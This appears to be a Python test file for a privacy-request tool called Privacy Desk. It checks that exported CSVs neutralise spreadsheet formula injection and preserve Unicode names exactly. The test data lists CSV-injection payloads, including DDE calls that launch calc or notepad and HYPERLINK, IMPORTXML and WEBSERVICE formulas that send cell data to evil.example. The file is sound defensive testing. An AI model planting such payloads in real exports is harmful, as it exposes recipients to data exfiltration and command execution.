"""Every CSV Privacy Desk writes keeps formula payloads inert and text intact.

- The OWASP CSV-injection list (cells starting with `=`, `+`, `-`, `@`, tab, carriage return)
  plus the NUL of OWASP ASVS 5.0 (1.2.10), with the classic DDE, HYPERLINK, IMPORTXML and
  WEBSERVICE payloads and separator/quote break-outs: in the request register (the dashboard's
  and `python -m lib report`'s CSV) and in the export package's CSV files.
- Right-to-left, combining and emoji names survive the round trip into the register and the
  export package (customer.json and addresses.csv) byte for byte.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from sqlalchemy import select, update

from lib.core.csvsafe import FORMULA_PREFIXES, safe_cell
from lib.core.db import Database
from lib.core.enums import Channel, RequestType
from lib.core.lifecycle import NewRequest, open_request
from lib.core.models import DemoLineItem, DemoOrder, Export, Store
from lib.dashboard.queries import Scope
from lib.dashboard.reports import request_csv, write_request_csv
from lib.store.demo_data import add_demo_customer
from tests.helpers.export import click_export, read_package, run_worker
from tests.store.helpers import config_for, open_access_request, running_store

OWASP = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'B1'",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    'DDE("cmd";"/C calc";"!A0")A0',
    "a,=1+1",
    'a"\n=1+1',
    "'=1+1",
)
UNICODE = (
    "مريم الأحمد",  # Arabic, right to left
    "שָׁלוֹם כהן",  # Hebrew with points (combining marks)
    "\u202eevil\u202c name",  # right-to-left override
    "Zoe\u0308 Ange\u0301lique",  # decomposed: e + combining diaeresis / acute
    "Z̴̡̛a̵l̷g̸o",
    "👩🏽‍💻 Ada 🇩🇪",  # skin tone, zero-width joiner, flag
    "李小龍",
    "Ǆemal Ǉubović",
)


def payloads(db: Database) -> tuple[str, ...]:
    """PostgreSQL text cannot hold NUL at all, so that payload only reaches SQLite."""
    return OWASP if db.is_sqlite else tuple(p for p in OWASP if "\x00" not in p)


def escaped(value: str) -> str:
    return f"'{value}" if value[:1] in FORMULA_PREFIXES else value


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_live_formula(rows: list[list[str]]) -> None:
    """No cell starts like a formula, except plain negative numbers (data, not formulas)."""
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_PREFIXES):
                float(cell)  # raises for anything but a number


def test_every_owasp_prefix_is_escaped() -> None:
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r", "\x00"}
    for payload in OWASP:
        assert safe_cell(payload) == escaped(payload)
        assert not safe_cell(payload).startswith(FORMULA_PREFIXES)


def _requests(db: Database, names: tuple[str, ...], emails: tuple[str, ...]) -> Store:
    store = Store(shop_domain="demo-shop.myshopify.com", name="Demo Shop", timezone="UTC")
    with db.write() as session:
        session.add(store)
        session.flush()
        for name, email in zip(names, emails, strict=True):
            new = NewRequest(store, RequestType.ACCESS, Channel.WEBHOOK, email, name=name)
            open_request(session, new, actor="shopify")
    return store


def test_register_csv_keeps_formula_payloads_inert(db: Database, tmp_path: Path) -> None:
    """Names and emails (webhook emails are not validated) carry every payload."""
    sent = payloads(db)
    _requests(db, sent, tuple(p.lower() for p in sent))
    streamed = b"".join(request_csv(db, Scope(), ["email", "name"], unmask=True)).decode()
    out = tmp_path / "report.csv"
    assert write_request_csv(db, out, Scope(), unmask=True, columns=["email", "name"]) == len(sent)
    for text in (streamed, out.read_bytes().decode("utf-8")):
        rows = cells(text)
        assert rows[1:] == [[escaped(p.strip().lower()), escaped(p)] for p in sent]
        assert_no_live_formula(rows)
    masked = cells(b"".join(request_csv(db, Scope())).decode())
    assert_no_live_formula(masked)  # masking keeps a leading = or @: still escaped


def test_register_csv_keeps_unicode_names_exactly(db: Database) -> None:
    _requests(db, UNICODE, tuple(f"u{n}@example.com" for n in range(len(UNICODE))))
    text = b"".join(request_csv(db, Scope(), ["name"], unmask=True)).decode("utf-8")
    assert [row[0] for row in cells(text)[1:]] == list(UNICODE)


def _export(db: Database, tmp_path: Path, email: str, customer_id: int) -> dict[str, bytes]:
    """Export `email`'s data as the merchant would, through the demo store and a worker."""
    store = db_store(db)
    request_id = open_access_request(db, store, email, customer_id=str(customer_id))
    with running_store(db) as server:
        config = config_for(server, db, tmp_path / "exports")
        click_export(db, request_id)
        run_worker(db, config)
    with db.read() as session:
        export = session.scalars(select(Export).where(Export.request_id == request_id)).one()
    return read_package(Path(export.path))


def db_store(db: Database) -> Store:
    with db.write() as session:
        store = session.scalars(select(Store)).first()
        if store is None:
            store = Store(shop_domain="demo-shop.myshopify.com", name="Demo Shop", timezone="UTC")
            session.add(store)
        return store


def test_export_package_csvs_keep_formula_payloads_inert(db: Database, tmp_path: Path) -> None:
    sent = payloads(db)
    short = [p for p in sent if len(p) <= 20]
    ada = add_demo_customer(
        db,
        email="ada@example.com",
        orders=2,
        lines_per_order=len(sent),
        first_name=sent[0],
        last_name=sent[11],
        phone=short[2],
    )
    with db.write() as session:
        lines = session.scalars(select(DemoLineItem).order_by(DemoLineItem.id)).all()
        for line, payload in zip(lines, [*sent, *sent], strict=True):
            line.title = payload
            line.sku = payload[:40]
        session.execute(
            update(DemoOrder)
            .where(DemoOrder.customer_id == ada.id)
            .values(shipping_city=sent[12], shipping_address1=sent[13], shipping_zip=short[4])
        )
    files = _export(db, tmp_path, "ada@example.com", ada.id)
    every_cell = set()
    for name in ("orders.csv", "order_lines.csv", "addresses.csv", "requests.csv"):
        rows = cells(files[name].decode("utf-8"))
        assert_no_live_formula(rows)
        every_cell.update(cell for row in rows for cell in row)
    placed = {*sent, sent[0], sent[11], sent[12], sent[13], short[2], short[4]}
    assert {escaped(p) for p in placed} <= every_cell
    titles = [row[3] for row in cells(files["order_lines.csv"].decode())[1:]]
    assert sorted(titles) == sorted(escaped(p) for p in [*sent, *sent])


def test_export_package_keeps_unicode_names_exactly(db: Database, tmp_path: Path) -> None:
    first, last = " | ".join(UNICODE[:4]), " | ".join(UNICODE[4:])
    uni = add_demo_customer(db, email="uni@example.com", first_name=first, last_name=last)
    files = _export(db, tmp_path, "uni@example.com", uni.id)
    profile = json.loads(files["customer.json"])
    assert (profile["firstName"], profile["lastName"]) == (first, last)
    rows = cells(files["addresses.csv"].decode("utf-8"))
    assert [(r[2], r[3]) for r in rows if r[0] == "saved_address"] == [(first, last)]
